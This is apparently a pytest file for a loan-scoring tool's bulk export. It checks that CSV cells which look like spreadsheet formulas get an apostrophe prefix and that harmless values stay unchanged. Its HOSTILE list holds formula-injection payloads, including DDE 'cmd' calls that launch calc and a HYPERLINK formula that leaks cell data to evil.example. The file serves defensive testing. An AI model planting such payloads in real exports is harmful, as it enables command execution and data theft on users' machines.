"""Text that came with a portfolio stays text in a spreadsheet, and what is no text stays as it is."""

import csv
import io
import re
from pathlib import Path

import pyarrow as pa
import pyarrow.parquet as pq
import pytest
from hypothesis import given
from hypothesis import strategies as st
from portfolios import CSV, results, scored

from loan_default.bulk.export import iter_results
from loan_default.bulk.formulas import as_text, column_as_text
from loan_default.bulk.order import Formulas
from loan_default.bulk.run import REJECTS, RESULTS
from loan_default.model import LoanModel
from loan_default.storage import LocalFolder

HOSTILE = [
    "=1+1",
    '=HYPERLINK("http://evil.example/?"&A1,"see")',
    "=cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "-cmd|' /C calc'!A0",
    "@SUM(A1:A9)",
    "\t=1+A1",
    "\r=1+A1",
    "\n=1+A1",
    "  =1+A1",
    '"=1+A1',
    ' " =1+A1',
    "＝A1",
    "＠A1",
    "name;=A1",
    'name;"=A1',
    "name\t-A1",
    "two\nlines\n+A1",
    "==A1",
    "-2+3+cmd|' /C calc'!A0",
]
HARMLESS = ["", "-", "--", "-12.50", "+12,50", "-1.5e-7", "+49 170 1234567", "-12 %", "(12.50)", "5;-3", "-1/2"]
PLAIN = ["Ann-Marie", "a=b", "x@y.example", "C++", "12-A", "'=A1", "O'Neil; A. = B", "née"]
# What a spreadsheet takes for the start of a formula, at the start of a cell and of what it may take for one.
RUNS = re.compile(r'(?:^|[;\t\r\n])[\s"]*[=+\-@＝＋－＠]')
CALLS = re.compile(r"[^-+0-9 .,;()/%:eE]")


@pytest.mark.parametrize("cell", HOSTILE)
def test_what_would_run_is_marked_as_text_by_an_apostrophe_alone(cell: str) -> None:
    marked = as_text(cell)
    assert marked != cell
    assert marked.replace("'", "") == cell.replace("'", "")
    assert not RUNS.search(marked)


@pytest.mark.parametrize("cell", [*HARMLESS, *PLAIN])
def test_what_calls_nothing_stays_as_it_is(cell: str) -> None:
    assert as_text(cell) == cell


PIECES = st.sampled_from(["=", "+", "-", "@", "＝", ";", "\t", "\n", "\r", " ", '"', "'", "A1", "7", "e", ".", "é"])


@given(st.lists(PIECES, max_size=9).map("".join))
def test_both_ways_agree_and_leave_nothing_that_runs(cell: str) -> None:
    assert column_as_text(pa.array([cell, None])).to_pylist() == [as_text(cell), None]
    assert as_text(as_text(cell)) == as_text(cell)
    assert not (RUNS.search(as_text(cell)) and CALLS.search(as_text(cell)))


def exported(folder: Path, formulas: Formulas) -> list[list[str]]:
    content = b"".join(iter_results(LocalFolder(folder), "csv", formulas)).decode()
    return list(csv.reader(io.StringIO(content, newline="")))


def test_a_csv_is_safe_unless_it_is_asked_for_as_it_came(tmp_path: Path) -> None:
    cells = [*HOSTILE, *HARMLESS, *PLAIN]
    count = range(len(cells))
    columns = {
        "=A1": cells,
        "category": pa.array(cells).dictionary_encode(),
        "bytes": [cell.encode() for cell in cells],
        "nested": [{"x": cell} for cell in cells],
        "number": [-1.5 - i for i in count],
    }
    pq.write_table(pa.table(columns), tmp_path / RESULTS)
    header, *lines = exported(tmp_path, "text")
    assert header == ["'=A1", "category", "bytes", "nested", "number"]
    assert [line[:3] for line in lines] == [[as_text(cell)] * 3 for cell in cells]
    assert [line[4] for line in lines] == [str(-1.5 - i) for i in count]
    header, *lines = exported(tmp_path, "keep")
    assert header[0] == "=A1"
    assert [line[:3] for line in lines] == [[cell] * 3 for cell in cells]


def test_a_run_marks_rejects_and_keeps_parquet_as_it_came(loan_model: LoanModel, tmp_path: Path) -> None:
    with (tmp_path / "x.csv").open("w", newline="") as file:
        lines = csv.writer(file)
        lines.writerow(["Index", "Employed", "Bank Balance", "Annual Salary", "note"])
        lines.writerows([i, 1, 100.0, 50_000.0, cell] for i, cell in enumerate(HOSTILE))
        lines.writerows([cell, 1, cell, 50_000.0, "-"] for cell in HOSTILE)
        lines.writerow(["-7", 1, -5, 50_000.0, "-"])
    scored(tmp_path / "x.csv", tmp_path / "out", loan_model, CSV)
    assert results(tmp_path / "out")["note"].to_pylist() == HOSTILE
    _, *rejects = csv.reader(io.StringIO((tmp_path / "out" / REJECTS).read_bytes().decode(), newline=""))
    assert [line[1:4] for line in rejects] == [
        *([as_text(cell), "Bank Balance", as_text(cell)] for cell in HOSTILE),
        ["-7", "Bank Balance", "-5"],
    ]
